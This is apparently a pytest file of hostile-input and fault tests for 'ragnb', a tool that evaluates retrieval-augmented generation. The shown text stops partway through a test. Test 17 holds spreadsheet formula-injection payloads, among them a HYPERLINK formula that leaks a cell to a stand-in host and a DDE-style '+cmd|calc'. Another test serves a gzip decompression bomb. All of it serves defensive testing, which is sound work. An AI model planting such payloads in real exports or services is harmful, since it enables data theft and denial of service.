"Hostile input and faults, round 3 (issue 40): one test per item, through the command line or the public API."
import csv, json, os, resource, signal, subprocess, sys
from pathlib import Path
import pytest
from ragnb.check.checker import small_prompt
from ragnb.app.cli import main
from ragnb.check.metrics import save_results
from ragnb.testing.scripted import ScriptedServer
SMALL = small_prompt('small')   # the small profile's one-claim prompt

ROOT = Path(__file__).resolve().parents[1]
E, N = 'Entailment', 'Neutral'
FORMULA = ('=', '+', '@', '\t', '\r')

def _cells(path:Path) -> list:
    return [c for row in csv.reader(path.read_text(encoding='utf-8').splitlines()) for c in row]

def _formula_free(path:Path):
    "No cell a spreadsheet would run: text starting with = + @ tab CR, or '-' that is not a number."
    for c in _cells(path):
        assert not c.startswith(FORMULA), f"{path.name}: {c!r}"
        if c.startswith('-'): float(c)   # a negative number is fine; '-2+3' as text is not

def _checked(qid, claim, hit):
    return dict(query_id=qid, query=f'question {qid}', gt_answer='g', response='r',
                retrieved_context=[{'doc_id': '=c0', 'text': 't'}], response_claims=[['r', 'is', 'x']],
                gt_answer_claims=[claim, 'grass is green'], answer2response=[E], response2answer=[E if hit else N, N],
                retrieved2response=[[E]], retrieved2answer=[[E if hit else N], [N]])

# 17 -----------------------------------------------------------------------------------------------------------------
def test_17_compare_csvs_neutralise_formula_cells(tmp_path):
    claims = ['=HYPERLINK("http://x.example/?"&A1,"x")', '+cmd|calc', '@SUM(A1:A9)', '-2+3']
    save_results([_checked(f'=q{i}', c, False) for i, c in enumerate(claims)], tmp_path/'=base.json')
    save_results([_checked(f'=q{i}', c, True) for i, c in enumerate(claims)], tmp_path/'@new.json')
    assert main(['compare', str(tmp_path/'=base.json'), str(tmp_path/'@new.json'), '--out', str(tmp_path/'cmp')]) == 0
    for name in ('table.csv', 'deltas.csv', 'claim_moves.csv'): _formula_free(tmp_path/'cmp'/name)
    cells = _cells(tmp_path/'cmp'/'claim_moves.csv')
    assert "'=q0" in cells and any(c.startswith("'=HYPERLINK") for c in cells) and "'-2+3" in cells
    assert "'=base" in _cells(tmp_path/'cmp'/'table.csv')   # the system's name, as a column or index label

# 8 and 17: audit ------------------------------------------------------------------------------------------------------
TOY = {'results': [dict(
    query_id='=q1', query='=1+1', gt_answer='G.', response='R.', retrieved_context=[{'doc_id': 'd', 'text': 'C.'}],
    response_claims=['=Nile flows north.', 'Paris is big.'], gt_answer_claims=['Nile is long.', '@Rome is old.'],
    answer2response=[E, N], response2answer=[E, 'Contradiction'],
    retrieved2response=[[E], [N]], retrieved2answer=[[N], [N]])]}

def _nile(call, rng): return 'Yes' if 'Nile' in call.inputs['claim'] else 'No.'

def test_8_audit_writes_each_file_whole_and_names_the_one_that_failed(tmp_path):
    ref, out = tmp_path/'ref.json', tmp_path/'a'
    ref.write_text(json.dumps(TOY))
    with ScriptedServer(rules={SMALL: _nile}) as srv:
        env = {**{k: v for k, v in os.environ.items() if not k.startswith('OPENAI')}, 'OPENAI_BASE_URL': srv.base_url,
               'OPENAI_API_KEY': 'test', 'RAGNB_MODEL': 'scripted-test-model', 'RAGNB_CACHE_DIR': str(tmp_path/'cache')}
        cmd = [str(Path(sys.executable).with_name('ragnb')), 'audit', str(ref), '--judge-profile', 'small', '--out', str(out)]
        r = subprocess.run(cmd, env=env, capture_output=True, text=True)
        assert r.returncode == 0, r.stderr
        _formula_free(out/'pairs.csv')
        # again (every call cached), with the figure's place taken by a folder: its write fails as a full disk would
        (out/'audit.png').unlink(); (out/'audit.png').mkdir(); (out/'audit.png'/'keep').write_text('x')
        (out/'pairs.csv').write_text('old,pairs\n'); (out/'summary.json').write_text('{"old": true}')
        r = subprocess.run(cmd, env=env, capture_output=True, text=True)
    assert r.returncode == 1 and 'Traceback' not in r.stderr, r.stderr
    assert f"ragnb audit: error: cannot write {out/'audit.png'}" in r.stderr, r.stderr   # the error names the file
    assert sorted(p.name for p in out.iterdir()) == ['audit.png', 'pairs.csv', 'summary.json']   # no temporary left
    assert len(_cells(out/'pairs.csv')) > 20 and json.loads((out/'summary.json').read_text())['summary']  # whole, new


@pytest.fixture
def scripted_env(server, monkeypatch):
    for k, v in {'OPENAI_BASE_URL': server.base_url, 'OPENAI_API_KEY': 'sk-test', 'RAGNB_MODEL': 'scripted-test-model'}.items():
        monkeypatch.setenv(k, v)
    return server

def _inputs(path:Path, responses:dict):
    path.write_text(json.dumps({'results': [
        dict(query_id=q, query=f'What about {q}?', gt_answer='The Nile is in Africa.', response=resp,
             retrieved_context=[{'doc_id': 'd1', 'text': 'The Nile is a river in Africa.'}]) for q, resp in responses.items()]}))
    return path

# 3 ------------------------------------------------------------------------------------------------------------------
def test_3_check_resumes_only_from_an_output_made_from_its_input(tmp_path, scripted_env, capsys):
    a = _inputs(tmp_path/'a.json', {'q1': 'The Nile is in Africa.', 'q2': 'It is long.'})
    out = tmp_path/'out.json'
    assert main(['check', str(a), '--out', str(out)]) == 0
    made, n = out.read_bytes(), len(scripted_env.requests)
    assert main(['check', str(a), '--out', str(out)]) == 0               # same input: resumes, nothing to do
    assert len(scripted_env.requests) == n
    capsys.readouterr()
    changed = _inputs(tmp_path/'b.json', {'q1': 'The Nile is in Asia.', 'q2': 'It is long.'})
    other = _inputs(tmp_path/'c.json', {'x1': 'The Nile is in Africa.'})
    for bad, why in ((changed, "result 'q1': its response differs"), (other, "1 result(s) not in it (e.g. 'x1')")):
        assert main(['check', str(bad), '--out', str(out)]) == 1
        err = capsys.readouterr().err
        assert f"{out} was not made from {bad} ({why}" in err and '--restart' in err
        assert out.read_bytes() == made and len(scripted_env.requests) == n   # no call, the old output kept
    assert main(['check', str(changed), '--out', str(out), '--restart']) == 0
    got = json.loads(out.read_text())['results']
    assert got[0]['response'] == 'The Nile is in Asia.' and len(scripted_env.requests) > n

# 15 -----------------------------------------------------------------------------------------------------------------
def test_15_check_on_zero_results_is_a_clear_error(tmp_path, scripted_env, capsys):
    empty = tmp_path/'empty.json'; empty.write_text('{"results": []}')
    assert main(['check', str(empty), '--out', str(tmp_path/'o.json')]) == 1
    assert f'ragnb check: error: {empty}: no results to check' in capsys.readouterr().err
    assert not scripted_env.requests and not (tmp_path/'o.json').exists()
    from ragnb.check.checker import run_checks
    with pytest.raises(ValueError, match='no results to check'): run_checks([])

# 16 -----------------------------------------------------------------------------------------------------------------
def test_16_an_out_name_too_long_for_its_temporary_file_fails_before_any_call(tmp_path, scripted_env, capsys):
    a = _inputs(tmp_path/'a.json', {'q1': 'The Nile is in Africa.'})
    name = 'r' * 245 + '.json'                                            # 250 bytes: legal, its temporary name is not
    (tmp_path/name).write_text('{}'); (tmp_path/name).unlink()            # the name itself is fine here
    assert main(['check', str(a), '--out', str(tmp_path/name)]) == 1
    err = capsys.readouterr().err
    assert 'the file name is 250 bytes' in err and 'at most 241 bytes' in err and not scripted_env.requests
    assert main(['check', str(a), '--out', str(tmp_path/('r' * 236 + '.json'))]) == 0   # 241 bytes: fine

# 1 ------------------------------------------------------------------------------------------------------------------
def test_1_a_batch_reply_that_echoes_the_key_is_stored_without_it(tmp_path, monkeypatch):
    from ragnb.core.batch import BatchAPI
    from ragnb.core.llm import LLM, Request, Retries
    key = 'sk-proj-Zx81secretvalue1234567890'
    monkeypatch.setenv('RAGNB_BATCH_POLL', '0.02')
    reqs = [Request([{'role': 'user', 'content': f'Say hello to {i}'}], prompt='greeting@1', id=f'q{i}') for i in range(3)]
    with ScriptedServer(rules={'greeting': lambda call, rng: f'Hello! You sent Authorization: Bearer {key}.'}) as srv:
        llm = LLM(base_url=srv.base_url, api_key=key, model='scripted-test-model', cache_path=tmp_path/'c.sqlite',
                  progress=False, retries=Retries(backoff=0.01), batch=BatchAPI(poll=0.02))
        got = llm.batch(reqs)
        assert len(srv.batches) == 1                                         # it went through the Batch API
    assert all(r.ok and '[redacted]' in r.text and key not in r.text for r in got)
    stored = b''.join(p.read_bytes() for p in tmp_path.rglob('*') if p.is_file())
    assert key.encode() not in stored and b'[redacted]' in stored           # calls.sqlite, batch job files

# 4 ------------------------------------------------------------------------------------------------------------------
def test_4_evidence_in_a_decomposed_document_is_found_when_quoted_composed():
    import unicodedata
    from ragnb.docs.documents import Document, split_document
    from ragnb.docs.evidence import ground, locate
    text = unicodedata.normalize('NFD', 'Intro. Le café de Müller ouvre à 7 h. La crème brûlée coûte 9 €. Fin.')
    for quote in ('Le café de Müller ouvre à 7 h.', 'la crème brûlée coûte 9 €', 'ＣＡＦÉ DE MÜLLER'):
        m = locate(quote, text)
        assert m and m.method == 'normalised', quote
        got = unicodedata.normalize('NFKC', text[m.start:m.end]).lower()
        assert got == unicodedata.normalize('NFKC', quote).lower()       # whole letters: no accent left behind
        assert not unicodedata.combining(text[m.end]) if m.end < len(text) else True
    doc = Document(text, 'menu', 'menu.md', 'menu.md', '.md')
    chunk = split_document(doc, chunk_size=40, chunk_overlap=0)[1]
    m = ground('La crème brûlée coûte 9 €.', chunk, doc)
    assert m and unicodedata.normalize('NFC', text[m.start:m.end]) == 'La crème brûlée coûte 9 €.'

# 5 ------------------------------------------------------------------------------------------------------------------
def test_5_a_chunk_holding_a_second_copy_of_the_evidence_is_relevant():
    from ragnb.docs.documents import Chunk
    from ragnb.rag.retrieval import FunctionRetriever, evaluate
    said = 'The warranty covers parts and labour for two years.'
    text = f'Summary. {said} ' + 'Details follow here. ' * 6 + f'Conclusion. {said}'
    cut = len(text) // 2
    chunks = [Chunk(text[:cut], 'manual', 0, 0), Chunk(text[cut:], 'manual', 1, cut)]
    s = text.index(said)
    row = dict(question='How long is the warranty?', source_doc='manual', evidence=said, evidence_start=s,
               evidence_end=s + len(said), evidence_found=True)
    second_first = FunctionRetriever(lambda q: ['manual#1', 'manual#0'])
    rep = evaluate([row], chunks, second_first, ks=(1,), n_resamples=50)
    assert rep.mean('hit', 1) == 1.0 and rep.mean('mrr', 1) == 1.0 and rep.mean('recall', 1) == 1.0
    unrelated = Chunk('Nothing about it at all in this chunk of text.', 'manual', 2, len(text) + 1)
    rep = evaluate([row], chunks + [unrelated], FunctionRetriever(lambda q: ['manual#2', 'manual#1']), ks=(1, 2), n_resamples=50)
    assert rep.mean('hit', 1) == 0.0 and rep.mean('hit', 2) == 1.0 and rep.mean('mrr', 2) == 0.5

# 10 -----------------------------------------------------------------------------------------------------------------
def _checked_run(tmp_path, server, monkeypatch):
    "A checked result and the cache it was made with (its calls and traces)."
    for k, v in {'OPENAI_BASE_URL': server.base_url, 'OPENAI_API_KEY': 'sk-test', 'RAGNB_MODEL': 'scripted-test-model',
                 'RAGNB_CACHE_DIR': str(tmp_path/'cache')}.items(): monkeypatch.setenv(k, v)
    a = _inputs(tmp_path/'a.json', {'q1': 'The Nile is in Africa.'})
    assert main(['check', str(a), '--out', str(tmp_path/'out.json')]) == 0
    return tmp_path/'out.json', tmp_path/'cache'/'calls.sqlite'

def _state(folder:Path) -> dict:
    "The cache file's bytes and time, and which files the folder holds (a reader of a WAL file may touch its -shm)."
    return {p.name: (p.stat().st_mtime_ns, p.read_bytes()) if p.suffix == '.sqlite' else None for p in folder.iterdir()}

def test_10_show_reads_a_cache_without_writing_and_names_a_damaged_one(tmp_path, server, monkeypatch, capsys):
    out, cache = _checked_run(tmp_path, server, monkeypatch)
    import gc, sqlite3
    gc.collect()   # the run's own connection closes now if nothing holds it, not in the middle of `show`
    con = sqlite3.connect(cache); con.execute('PRAGMA wal_checkpoint(TRUNCATE)'); con.close()   # as a run leaves it
    before = _state(cache.parent)
    capsys.readouterr()
    assert main(['show', str(out), 'q1', '--cache', str(cache)]) == 0
    assert 'claims of the response' in capsys.readouterr().out
    assert _state(cache.parent) == before   # nothing created or touched: works on read-only storage too
    data = bytearray(cache.read_bytes())
    size = int.from_bytes(data[16:18], 'big')   # SQLite's page size
    for page in range(1, len(data) // size):     # every page but the first (the schema) gets an invalid page type
        data[page * size] = 0
    cache.write_bytes(bytes(data))
    for f in cache.parent.glob('calls.sqlite-*'): f.unlink()
    assert main(['show', str(out), 'q1', '--cache', str(cache)]) == 1
    err = capsys.readouterr().err
    assert err.startswith('ragnb show: error: call cache ') and str(cache) in err and 'Traceback' not in err
    assert len(err.strip().splitlines()) == 1

# 13 -----------------------------------------------------------------------------------------------------------------
WRITER = '''
import sys, time
from ragnb.core.cache import CallCache, Exchange
start = float(sys.argv[3])
while time.time() < start: pass          # every writer opens the new file at the same moment
c = CallCache(sys.argv[1]); who = sys.argv[2]
for i in range(int(sys.argv[4])):
    c.put(f"{who}-{i}", {"text": "x" * 2000, "i": i}, "chat", "m", "p@1")
    c.put_trace(Exchange(item_id=f"{who}/{i}", key=f"{who}-{i}", prompt="p@1", model="m",
                         messages=[{"role": "user", "content": "q" * 500}], params={}, source="live", reply="x",
                         endpoint="e", run=who, time=time.time()))
print(len(c.errors))
'''

@pytest.mark.parametrize('trial', range(6))
def test_13_writers_opening_one_new_cache_at_once_all_get_their_rows_in(tmp_path, trial):
    "Before: 'cannot be opened (database is locked)' for about one writer in eight (the switch to WAL, the first table)."
    import time
    from ragnb.core.cache import CallCache
    path, n, rows = tmp_path/'calls.sqlite', 4, 40 if trial else 300
    t = time.time() + 2
    procs = [subprocess.Popen([sys.executable, '-c', WRITER, str(path), f'w{k}', str(t), str(rows)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for k in range(n)]
    outs = [p.communicate(timeout=300) for p in procs]
    for p, (so, se) in zip(procs, outs):
        assert p.returncode == 0 and so.strip() == '0', se[-2000:]   # no 'database is locked', no write kept in memory
    c = CallCache(path)
    assert len(c) == n * rows and len(c.traces(prefix='w')) == n * rows

# 14 -----------------------------------------------------------------------------------------------------------------
def _lie_about(data:bytes, name:str, size:int) -> bytes:
    "The zip `data` with the central directory declaring `size` bytes uncompressed for entry `name`."
    out, i = bytearray(data), 0
    while (i := out.find(b'PK\x01\x02', i)) >= 0:
        n = int.from_bytes(out[i + 28:i + 30], 'little')
        if out[i + 46:i + 46 + n] == name.encode(): out[i + 24:i + 28] = size.to_bytes(4, 'little'); return bytes(out)
        i += 4
    raise AssertionError(f'no entry {name}')

def test_14_a_docx_whose_zip_entries_lie_about_their_sizes_is_a_clear_error(tmp_path):
    import docx
    from ragnb.docs.office import DocumentError, open_docx
    d = docx.Document(); d.add_paragraph('The Nile flows north. ' * 200); d.save(tmp_path/'ok.docx')
    good = (tmp_path/'ok.docx').read_bytes()
    bad = tmp_path/'lies_10.docx'; bad.write_bytes(_lie_about(good, 'word/document.xml', 10))   # holds far more
    with pytest.raises(DocumentError) as e: open_docx(bad)
    assert str(e.value).startswith(f'{bad}: a damaged DOCX package (part word/document.xml: Bad CRC-32')
    more = tmp_path/'lies_big.docx'; more.write_bytes(_lie_about(good, 'word/document.xml', 10_000_000))
    assert 'The Nile flows north.' in open_docx(more).paragraphs[0].text   # the data ends early but is intact: read
    r = subprocess.run([str(Path(sys.executable).with_name('ragnb')), 'generate', str(tmp_path/'lies_10.docx'),
                        '--out', str(tmp_path/'qa.jsonl')], capture_output=True, text=True,
                       env={**os.environ, 'OPENAI_BASE_URL': 'http://127.0.0.1:9/v1', 'OPENAI_API_KEY': 'x'})
    assert 'Traceback' not in r.stderr and 'lies_10.docx' in r.stderr, r.stderr[-1500:]

# 12 -----------------------------------------------------------------------------------------------------------------
def test_12_bad_batch_files_and_lines_are_skipped_and_the_run_goes_on(tmp_path, monkeypatch):
    import time, warnings
    from ragnb.core.batch import BatchAPI, BatchJobs, submit
    from ragnb.core.llm import LLM, Request, Retries, run_sync
    monkeypatch.setenv('RAGNB_BATCH_POLL', '0.02')
    reqs = [Request([{'role': 'user', 'content': f'Say hello to {i}'}], prompt='greeting@1', id=f'q{i}') for i in range(6)]
    jobs = BatchJobs(tmp_path/'batches')
    jobs.folder.mkdir()
    (jobs.folder/'broken.json').write_text('{"job": "x", ')                  # a half-written or foreign file
    (jobs.folder/'other.json').write_bytes(b'\xff\xfe not utf-8')
    (jobs.folder/'list.json').write_text('[1, 2]')
    with ScriptedServer() as srv:
        llm = LLM(base_url=srv.base_url, api_key='sk-test', model='scripted-test-model', cache_path=tmp_path/'c.sqlite',
                  progress=False, retries=Retries(backoff=0.01), batch=BatchAPI(poll=0.02))
        (job,) = run_sync(submit(llm, {llm.key_of(r): r for r in reqs}, jobs))
        t0 = time.time()
        while srv.batches[job['batch_id']]['status'] != 'completed' and time.time() - t0 < 30: time.sleep(0.05)
        out = srv.files[srv.batches[job['batch_id']]['output_file_id']]
        lines = out['data'].split(b'\n')
        good = [json.loads(l) for l in lines[:2]]
        bad = [b'not json at all', b'\xff\xfe\x00', json.dumps({'response': {'status_code': 200}}).encode(),  # no id
               json.dumps({'custom_id': json.loads(lines[2])['custom_id'], 'response': 'OK'}).encode(),
               json.dumps({**json.loads(lines[3]), 'response': {**json.loads(lines[3])['response'], 'body': {
                   **json.loads(lines[3])['response']['body'], 'usage': {'prompt_tokens': '12', 'completion_tokens': 'x'}}}}).encode(),
               b'[1, 2, 3]']
        out['data'] = b'\n'.join([json.dumps(g).encode() for g in good] + bad) + b'\n'
        with warnings.catch_warnings(record=True) as seen:
            warnings.simplefilter('always')
            got = llm.batch(reqs)                                                # resumes the job, collects it
        online = [q for q in srv.requests if q['path'].endswith('/chat/completions') and 'X-Ragnb-Batch' not in q['headers']]
        assert all(r.ok for r in got) and len(online) == 3                      # 2 + 1 from the batch, 3 asked online
        said = ' '.join(str(w.message) for w in seen)
        assert 'unreadable line(s) skipped' in said and 'not JSON' in said and 'not UTF-8' in said
        assert all(f in said for f in ('broken.json', 'other.json', 'list.json'))   # each bad job file named
        done = [j for j in jobs.all() if j['job'] == job['job']][0]
        assert done['status'] == 'done' and done['skipped_lines']
        n = len(srv.requests)
        llm.batch(reqs)                                                          # nothing resumed, nothing sent
        assert len(srv.requests) == n and not srv.batches.keys() - {job['batch_id']}

# 6 ------------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize('concurrency', [1, 8])
def test_6_identical_calls_are_one_request_per_run(tmp_path, scripted_env, concurrency):
    "Two systems checked against the same ground truth: the ground truth's claims are asked for once, not twice."
    rows = [dict(query_id=f'{sys_}-{q}', query=f'Where is river {q}?', gt_answer=f'River {q} is in Africa. It is long.',
                 response=f'{sys_} says river {q} is somewhere.', retrieved_context=[{'doc_id': 'd', 'text': f'River {q}.'}])
            for q in range(4) for sys_ in ('a', 'b')]
    (tmp_path/'in.json').write_text(json.dumps({'results': rows}))
    assert main(['check', str(tmp_path/'in.json'), '--out', str(tmp_path/'out.json'),
                 '--concurrency', str(concurrency)]) == 0
    chat = [json.dumps(r['body'], sort_keys=True) for r in scripted_env.requests if r['path'].endswith('/chat/completions')]
    assert chat and len(chat) == len(set(chat)), f"{len(chat) - len(set(chat))} of {len(chat)} requests sent twice"
    got = {r['query_id']: r for r in json.loads((tmp_path/'out.json').read_text())['results']}
    for q in range(4):   # both systems got the ground-truth claims (the second from the call the first made)
        assert got[f'a-{q}']['gt_answer_claims'] and got[f'a-{q}']['gt_answer_claims'] == got[f'b-{q}']['gt_answer_claims']

# 11 -----------------------------------------------------------------------------------------------------------------
def _pair(i, **kw):
    s = {'precision': 50.0, 'recall': 40.0}
    return {'instance_id': i, 'model1': {'ragchecker': s}, 'model2': {'ragchecker': {**s, 'recall': 60.0}}, **kw}

HUMAN = [{'instance_id': i, 'correctness_label': 1, 'completeness_label': -1, 'overall_label': 2} for i in range(3)]

@pytest.mark.parametrize('human, scores, says', [
    ([dict(HUMAN[0], overall_label=float('nan'))] + HUMAN[1:], None, "h.json: row 0 (instance 0): field 'overall_label': nan is not a finite number in [-2, 2]"),
    ([dict(HUMAN[0], correctness_label='good')] + HUMAN[1:], None, "field 'correctness_label': 'good' is not a finite number"),
    ([dict(HUMAN[0], completeness_label=7)] + HUMAN[1:], None, "field 'completeness_label': 7 is not a finite number in [-2, 2]"),
    (HUMAN[:1] + [[1, 2]] + HUMAN[2:], None, 'h.json: row 1: a JSON list, not an object'),
    ({'rows': HUMAN}, None, 'h.json: expected a list of rows, got a JSON dict'),
    ([dict(HUMAN[0], instance_id=[1])] + HUMAN[1:], None, "field 'instance_id' is a list, not a text or number"),
    (HUMAN, [_pair(0), _pair(1, model2='x'), _pair(2)], "s.json: pair 1: field 'model2.ragchecker' is missing"),
    (HUMAN, [_pair(0), _pair(1), {**_pair(2), 'model1': {'ragchecker': {'precision': 'high', 'recall': 1}}}],
     "s.json: pair 2: field 'model1.ragchecker.precision': 'high' is not a finite number"),
    (HUMAN, [{'model1': 3}], "s.json: pair 0: field 'model1' is not an object"),
])
def test_11_meta_eval_files_that_are_malformed_are_named(tmp_path, capsys, human, scores, says):
    (tmp_path/'h.json').write_text(json.dumps(human))
    (tmp_path/'s.json').write_text(json.dumps(scores or [_pair(i) for i in range(3)]))
    assert main(['meta-eval', '--human', str(tmp_path/'h.json'), '--scores', str(tmp_path/'s.json')]) == 1
    err = capsys.readouterr().err
    assert says in err and 'Traceback' not in err and len(err.strip().splitlines()) == 1, err

def test_11_a_fifo_given_as_a_file_is_refused_not_waited_on(tmp_path, capsys):
    os.mkfifo(tmp_path/'h.json')
    (tmp_path/'s.json').write_text(json.dumps([_pair(i) for i in range(3)]))
    assert main(['meta-eval', '--human', str(tmp_path/'h.json'), '--scores', str(tmp_path/'s.json')]) == 1
    assert 'h.json: not a regular file' in capsys.readouterr().err

@pytest.mark.parametrize('field, value, says', [
    ('review', 'maybe', "row 1 (id 'r1'): field 'review' is 'maybe', not accept, edit or reject"),
    ('groundedness_score', 'five', "reviewed.jsonl: line 2: field 'groundedness_score' is 'five', not a whole number"),
    ('kept', 'False', "row 1 (id 'r1'): field 'kept' is 'False', not true or false"),
])
def test_11_audit_review_files_that_are_malformed_are_named(tmp_path, server, monkeypatch, capsys, field, value, says):
    rows = [dict(id=f'r{i}', question=f'q{i}?', review='accept', groundedness_score=4, kept=True) for i in range(3)]
    rows[1][field] = value
    (tmp_path/'reviewed.jsonl').write_text(''.join(json.dumps(r) + '\n' for r in rows))
    ref = tmp_path/'ref.json'; ref.write_text(json.dumps(TOY))
    for k, v in {'OPENAI_BASE_URL': server.base_url, 'OPENAI_API_KEY': 'sk-test', 'RAGNB_MODEL': 'scripted-test-model',
                 'RAGNB_CACHE_DIR': str(tmp_path/'cache')}.items(): monkeypatch.setenv(k, v)
    assert main(['audit', str(ref), '--judge-profile', 'small', '--review', str(tmp_path/'reviewed.jsonl')]) == 1
    err = capsys.readouterr().err
    assert says in err and 'Traceback' not in err, err

# 2 ------------------------------------------------------------------------------------------------------------------
class _Hostile:
    "An HTTP 'RAG service' on 127.0.0.1: /bomb (gzip of 40 MB of spaces), /endless, /trickle (a byte every 0.3 s)."
    def __init__(self):
        import gzip, http.server, threading, time
        bomb = gzip.compress(b'{"answer": "' + b' ' * (40 << 20) + b'", "contexts": []}', 9)
        class H(http.server.BaseHTTPRequestHandler):
            protocol_version = 'HTTP/1.1'
            def log_message(self, *a): pass
            def do_POST(self):
                self.rfile.read(int(self.headers['Content-Length']))
                if self.path == '/bomb':
                    self.send_response(200); self.send_header('Content-Encoding', 'gzip')
                    self.send_header('Content-Length', str(len(bomb))); self.end_headers(); self.wfile.write(bomb)
                    return
                self.send_response(200); self.send_header('Transfer-Encoding', 'chunked'); self.end_headers()
                t0 = time.time()
                try:
                    for _ in range(4000 if self.path == '/endless' else 200):   # bounded: 4000 MB, or 60 s
                        if time.time() - t0 > 60: break
                        piece = b' ' * (1 << 20) if self.path == '/endless' else b' '
                        self.wfile.write(b'%x\r\n%s\r\n' % (len(piece), piece)); self.wfile.flush()
                        if self.path == '/trickle': time.sleep(0.3)
                except OSError: pass   # the client hung up: what it should do
        self.srv = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
        self.srv.daemon_threads = True
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
        self.url = f'http://127.0.0.1:{self.srv.server_port}'

@pytest.mark.parametrize('path, extra, says', [
    ('/bomb', [], 'the reply is over 16,777,216 bytes (decompressed)'),
    ('/endless', [], 'the reply is over 16,777,216 bytes (decompressed)'),
    ('/trickle', ['--timeout', '2'], 'no answer within 2.0 s'),
])
def test_2_http_systems_are_bounded_in_bytes_and_time(tmp_path, capsys, path, extra, says):
    import resource, time
    svc = _Hostile()
    (tmp_path/'qs.jsonl').write_text(json.dumps({'query_id': 'q1', 'question': 'Why?', 'answer': 'Because.'}) + '\n')
    t0, rss0 = time.time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        code = main(['run', str(tmp_path/'qs.jsonl'), '--system', svc.url + path, '--retries', '0',
                     '--out', str(tmp_path/'answers.json'), *extra])
    finally: svc.srv.shutdown()
    err = capsys.readouterr().err
    assert code == 1 and says in err and 'Traceback' not in err, err
    assert time.time() - t0 < 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss0 < 200_000   # KB: no 40 MB+ reply held many times
    failed = json.loads((tmp_path/'answers.json').read_text())
    assert json.dumps(failed).count(says.split(' (')[0][:30]) >= 1   # the failure and its reason are in the file

def test_2_the_defaults_are_shown_in_help(capsys):
    with pytest.raises(SystemExit): main(['run', '--help'])
    out = capsys.readouterr().out
    assert 'default 300' in out and '16,777,216' in out

# 7 ------------------------------------------------------------------------------------------------------------------
class _OddContent:
    "A chat endpoint whose streamed reply has an integer among its text chunks, or whose JSON fields are numbers."
    def __init__(self, mode:str):
        import http.server, threading
        text = ['Factoid question: Where does the Nile flow?\nAnswer: North\nEvidence: ', 42,
                'The Nile is a river in Africa that flows north.']
        class H(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a): pass
            def do_POST(self):
                body = json.loads(self.rfile.read(int(self.headers['Content-Length'])))
                if body.get('stream'):
                    self.send_response(200); self.send_header('Content-Type', 'text/event-stream'); self.end_headers()
                    parts = text if mode == 'stream' else ['{"question": 42, "answer": 7, "evidence": 3}']
                    for p in parts:
                        ev = {'choices': [{'index': 0, 'delta': {'content': p}}]}
                        self.wfile.write(b'data: ' + json.dumps(ev).encode() + b'\n\n')
                    fin = {'choices': [{'index': 0, 'delta': {}, 'finish_reason': 'stop'}]}
                    self.wfile.write(b'data: ' + json.dumps(fin).encode() + b'\n\ndata: [DONE]\n\n')
                else:   # not streamed (RAGNB_STREAM=0): the message's content is a number
                    b = json.dumps({'id': 'x', 'object': 'chat.completion', 'model': 'm', 'choices': [{'index': 0,
                        'finish_reason': 'stop', 'message': {'role': 'assistant', 'content': 42}}],
                        'usage': {'prompt_tokens': 1, 'completion_tokens': 1, 'total_tokens': 2}}).encode()
                    self.send_response(200); self.send_header('Content-Type', 'application/json')
                    self.send_header('Content-Length', str(len(b))); self.end_headers(); self.wfile.write(b)
        self.srv = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
        self.url = f'http://127.0.0.1:{self.srv.server_port}/v1'

@pytest.mark.parametrize('mode, says', [('stream', "delta.content is a int (42), not text"),
                                        ('json', "'question' is a int, 'answer' is a int, 'evidence' is a int, not text"),
                                        ('plain', "message.content is a int (42), not text")])
def test_7_a_reply_with_non_text_content_writes_no_row(tmp_path, monkeypatch, capsys, mode, says):
    (tmp_path/'docs').mkdir()
    (tmp_path/'docs'/'nile.md').write_text('# Nile\n\n' + 'The Nile is a river in Africa that flows north. ' * 10)
    svc = _OddContent(mode)
    for k, v in {'OPENAI_BASE_URL': svc.url, 'OPENAI_API_KEY': 'x', 'RAGNB_MODEL': 'm',
                 'RAGNB_CACHE_DIR': str(tmp_path/'cache'), 'RAGNB_STREAM': '0' if mode == 'plain' else '1'}.items():
        monkeypatch.setenv(k, v)
    try: code = main(['generate', str(tmp_path/'docs'), '--out', str(tmp_path/'qa.jsonl'), '--max-retries', '0'])
    finally: svc.srv.shutdown()
    err = capsys.readouterr().err
    assert code == 1 and says in err and not (tmp_path/'qa.jsonl').exists(), err

# 9, second half ---------------------------------------------------------------------------------------------------
def test_9_a_local_server_that_dies_mid_run_is_named(tmp_path):
    "The demo against a local server that the OS kills after three replies: one line saying so, not a pandas error."
    srv = tmp_path/'server.py'
    srv.write_text('''import json, os, signal, sys
from http.server import BaseHTTPRequestHandler, HTTPServer
port = int(sys.argv[sys.argv.index("--port") + 1]); alias = sys.argv[sys.argv.index("--model_alias") + 1]
n, key = [0], os.environ.get("API_KEY")   # as llama-cpp-python's server: without ragnb's key, 401
class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        if self.headers.get("Authorization") != f"Bearer {key}": self.send_response(401); self.end_headers(); return
        b = json.dumps({"data": [{"id": alias}]}).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        n[0] += 1
        if n[0] > 3: print("out of memory: killed", flush=True); os.kill(os.getpid(), signal.SIGKILL)
        text = "Factoid question: What is it?\\nAnswer: A thing\\nEvidence: it"
        b = json.dumps({"id": "x", "object": "chat.completion", "model": alias, "choices": [{"index": 0,
             "finish_reason": "stop", "message": {"role": "assistant", "content": text}}],
             "usage": {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20}}).encode()
        self.send_response(200); self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
httpd = HTTPServer(("127.0.0.1", port), H)   # port 0: a free one, said as uvicorn says it
print(f"INFO:     Uvicorn running on http://127.0.0.1:{httpd.server_port} (Press CTRL+C to quit)", flush=True)
httpd.serve_forever()
''')
    py = tmp_path/'py'
    py.write_text(f'#!/bin/sh\n[ "$1" = "-c" ] && exit 0\nexec {sys.executable} {srv} "$@"\n'); py.chmod(0o755)
    (tmp_path/'m.gguf').write_bytes(b'GGUF')
